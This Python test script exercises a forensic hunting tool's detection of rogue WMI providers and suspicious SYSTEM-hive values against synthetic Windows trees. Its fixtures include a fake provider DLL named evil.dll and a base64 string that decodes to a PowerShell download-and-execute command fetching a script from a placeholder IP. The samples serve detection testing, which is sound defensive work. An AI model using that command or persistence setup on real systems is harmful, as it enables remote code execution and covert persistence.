#!/usr/bin/env python3
"""WMI providers and the SYSTEM hive's WMI-readable values in `wmihunt hunt`
(lib/hunt/hunt_provider.c, hunt_hostname.c; rules WH-PRV-*, WH-REG-040/041).

A Windows tree written by our own writers: `wh-cimprov` registers providers
in the repository, `wh-regfgen com` their COM classes in SOFTWARE (with the
CIMOM key, so the hunt reads it), `wh-regfgen sysvalues` a SYSTEM hive with
CrashControl DumpFile (Win32_OSRecoveryConfiguration.DebugFilePath) and the
system environment. A provider whose DLL is C:\\Users\\Public\\evil.dll is
WH-PRV-001 with its namespace, CLSID and DLL; Windows' own providers in
System32\\wbem give nothing; base64 in DumpFile is WH-REG-040. The real
repositories of the corpus (no SOFTWARE hive beside them, so no DLL) give
nothing above low from these rules.

usage: test_provider.py WMIHUNT TESTS_GEN_BUILD_DIR TESTS_SRC_DIR SCRATCH"""
import json
import os
import re
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))
from checks import check, finish  # noqa: E402

EVIL = "{11111111-2222-3333-4444-555555555555}"
GOOD = "{22222222-2222-3333-4444-555555555555}"
EVIL_DLL = "C:\\Users\\Public\\evil.dll"
GOOD_DLL = "%systemroot%\\system32\\wbem\\goodprov.dll"
# Windows' consumer providers, as cimgen's defaults register them.
STANDARD = {
    "{266c72e5-62e8-11d1-ad89-00c04fd8fdff}": "%SystemRoot%\\system32\\wbem\\wbemcons.dll",
    "{266c72e7-62e8-11d1-ad89-00c04fd8fdff}": "%SystemRoot%\\system32\\wbem\\wbemcons.dll",
    "{266c72e6-62e8-11d1-ad89-00c04fd8fdff}": "%SystemRoot%\\system32\\wbem\\wbemcons.dll",
    "{266c72d4-62e8-11d1-ad89-00c04fd8fdff}": "%SystemRoot%\\system32\\wbem\\wbemcons.dll",
    "{C7A3A54B-0250-11D3-9CD1-00105A1F4801}": "%SystemRoot%\\system32\\wbem\\smtpcons.dll",
}
B64 = ("SUVYIChOZXctT2JqZWN0IE5ldC5XZWJDbGllbnQpLkRvd25sb2FkU3RyaW5nKCdodHRwOi8vMTk4LjUxLjEw"
       "MC4yMy91cGRhdGUucHMxJyk=")
MINE = re.compile(r"^WH-(PRV-\d+|REG-04\d)$")
SEV = ["info", "low", "medium", "high", "critical"]
SUMMARY = re.compile(r"^WMI provider (.*) in (.*): CLSID (\S+) -> (.*)$")


def run(cmd):
    p = subprocess.run(cmd, capture_output=True, text=True)
    check(p.returncode == 0, "%s: exit %d: %s" % (" ".join(cmd[:2]), p.returncode, p.stderr.strip()[-300:]))
    return p.returncode == 0


def hunt(wm, tree, timeline):
    p = subprocess.run([wm, "hunt", "--no-progress", "--format", "jsonl", "--timeline", timeline, tree],
                       capture_output=True, text=True)
    # Under ASan/UBSan a report exits 1, which is also "a case at high".
    check("Sanitizer" not in p.stderr and "runtime error:" not in p.stderr,
          "%s: sanitizer report: %s" % (tree, p.stderr[-500:]))
    recs = [json.loads(line) for line in p.stdout.splitlines() if line.strip()]
    tl = []
    if os.path.exists(timeline):
        with open(timeline) as f:
            tl = [json.loads(line) for line in f if line.strip()]
    return p.returncode, recs, tl, p.stderr


def findings(recs, rule=None):
    return [r for r in recs if r.get("artifact") == "hunt.finding" and (rule is None or r.get("rule") == rule)]


def providers(tl):
    """wmi.provider records of the timeline, one per registration."""
    seen = {}
    for r in tl:
        if r.get("artifact") == "wmi.provider" and r.get("timestamp_desc") == "instance_written":
            seen[(r.get("source"), r.get("offset"))] = r
    return list(seen.values())


def tree(gen, root, dumpfile, provs, com):
    repo = os.path.join(root, "C", "Windows", "System32", "wbem", "Repository")
    config = os.path.join(root, "C", "Windows", "System32", "config")
    os.makedirs(repo)
    os.makedirs(config)
    args = []
    for ns, name, clsid in provs:
        args += [ns, name, clsid, "LocalSystemHost", "2024-03-01T10:00:00Z"]
    ok = run([os.path.join(gen, "wh-cimprov"), repo] + args)
    ok = ok and run([os.path.join(gen, "wh-regfgen"), "com", config] + ["%s=%s" % kv for kv in com.items()])
    ok = ok and run([os.path.join(gen, "wh-regfgen"), "sysvalues", config, "PRV-HOST", dumpfile])
    return ok


def evil_tree(wm, gen, scratch):
    root = os.path.join(scratch, "evil")
    com = dict(STANDARD)
    com[EVIL] = EVIL_DLL
    com[GOOD] = GOOD_DLL
    if not tree(gen, root, B64, [("root\\cimv2", "EvilProv", EVIL), ("root\\cimv2", "GoodProv", GOOD)], com):
        return
    rc, recs, tl, err = hunt(wm, root, os.path.join(scratch, "evil.jsonl"))
    check(rc == 1, "evil: exit %d, expected 1 (a case at high); stderr: %s" % (rc, err.strip()[-300:]))
    f = findings(recs, "WH-PRV-001")
    check(len(f) == 1, "evil: %d WH-PRV-001 findings, expected 1: %s" % (len(f), [x.get("evidence") for x in f]))
    if f:
        check(f[0].get("severity") == "high", "evil: WH-PRV-001 is %s, expected high" % f[0].get("severity"))
        m = SUMMARY.match(f[0].get("evidence") or "")
        check(m is not None, "evil: WH-PRV-001 evidence %r is not the provider's summary" % f[0].get("evidence"))
        if m:
            check(m.groups() == ("EvilProv", "root\\cimv2", EVIL, EVIL_DLL),
                  "evil: WH-PRV-001 on %r, expected EvilProv in root\\cimv2, %s -> %s" % (m.groups(), EVIL, EVIL_DLL))
        check("T1546.003" in (f[0].get("attack") or []), "evil: WH-PRV-001 lacks T1546.003")
    mine = [x for x in findings(recs) if MINE.match(x.get("rule", "")) and x.get("rule") != "WH-REG-040"]
    others = [x for x in mine if "EvilProv" not in (x.get("evidence") or "")]
    check(not others, "evil: findings on other providers (Windows' own, GoodProv): %s"
          % [(x.get("rule"), x.get("evidence")) for x in others])
    r40 = findings(recs, "WH-REG-040")
    check(len(r40) == 1 and "DumpFile" in (r40[0].get("evidence") or ""),
          "evil: WH-REG-040 on the base64 DumpFile: %s" % [x.get("evidence") for x in r40])
    check(r40 and r40[0].get("severity") == "high", "evil: WH-REG-040 is not high")
    provs = providers(tl)
    names = sorted(SUMMARY.match(p.get("message", "")).group(1) for p in provs if SUMMARY.match(p.get("message", "")))
    check(names == sorted(["EvilProv", "GoodProv", "CommandLineEventConsumer", "ActiveScriptEventConsumer",
                           "NTEventLogEventConsumer", "LogFileEventConsumer", "SMTPEventConsumer"]),
          "evil: wmi.provider records in the timeline: %s" % names)
    good = [p for p in provs if "GoodProv" in p.get("message", "")]
    check(len(good) == 1 and good[0].get("message", "").endswith(GOOD_DLL),
          "evil: GoodProv's DLL not resolved: %s" % [p.get("message") for p in good])
    files = [r.get("source", "") for r in recs if r.get("artifact") == "hunt.file"]
    check(any(os.path.basename(x) == "SYSTEM" for x in files), "evil: the SYSTEM hive is not among the files read")


def clean_tree(wm, gen, scratch):
    """Windows' own providers and a default DumpFile: nothing from these rules."""
    root = os.path.join(scratch, "clean")
    if not tree(gen, root, "%SystemRoot%\\MEMORY.DMP", [], dict(STANDARD)):
        return
    rc, recs, tl, err = hunt(wm, root, os.path.join(scratch, "clean.jsonl"))
    mine = [(x.get("rule"), x.get("evidence")) for x in findings(recs) if MINE.match(x.get("rule", ""))]
    check(not mine, "clean: findings from the provider and SYSTEM rules: %s" % mine)
    check(len(providers(tl)) == 5, "clean: %d wmi.provider records, expected Windows' 5" % len(providers(tl)))
    sysvals = {r.get("message") for r in tl if r.get("artifact") == "reg.system_value"}
    check(any("CrashControl value DumpFile" in m for m in sysvals), "clean: no reg.system_value for DumpFile")
    check(any("Environment value Path" in m for m in sysvals), "clean: no reg.system_value for the Path variable")


def corpus(wm, src, scratch):
    base = os.path.normpath(os.path.join(src, "..", "..", "shared", "corpus", "cim"))
    repos = []
    museum = os.path.join(base, "DFIRArtifactMuseum")
    if os.path.isdir(museum):
        repos += [os.path.join(museum, d) for d in sorted(os.listdir(museum))]
    repos.append(os.path.join(base, "fox-it_dissect.cim"))
    repos = [r for r in repos if os.path.isdir(r)]
    if not repos:
        print("SKIP corpus: %s not found" % base)
        return
    for i, repo in enumerate(repos):
        rc, recs, tl, err = hunt(wm, repo, os.path.join(scratch, "corpus%d.jsonl" % i))
        n = len(providers(tl))
        print("corpus %s: %d provider registration(s)" % (os.path.relpath(repo, base), n))
        check(n >= 100, "corpus %s: %d wmi.provider records, a Windows 10 repository has about 160" % (repo, n))
        above = [(x.get("rule"), x.get("severity"), x.get("evidence")) for x in findings(recs)
                 if MINE.match(x.get("rule", "")) and SEV.index(x.get("severity", "info")) > 1]
        check(not above, "corpus %s: provider/SYSTEM findings above low without a hive: %s" % (repo, above[:5]))


def main():
    if len(sys.argv) != 5:
        print(__doc__)
        return 2
    wm, gen, src, scratch = sys.argv[1:]
    shutil.rmtree(scratch, ignore_errors=True)
    os.makedirs(scratch)
    evil_tree(wm, gen, scratch)
    clean_tree(wm, gen, scratch)
    corpus(wm, src, scratch)
    return finish()


if __name__ == "__main__":
    sys.exit(main())
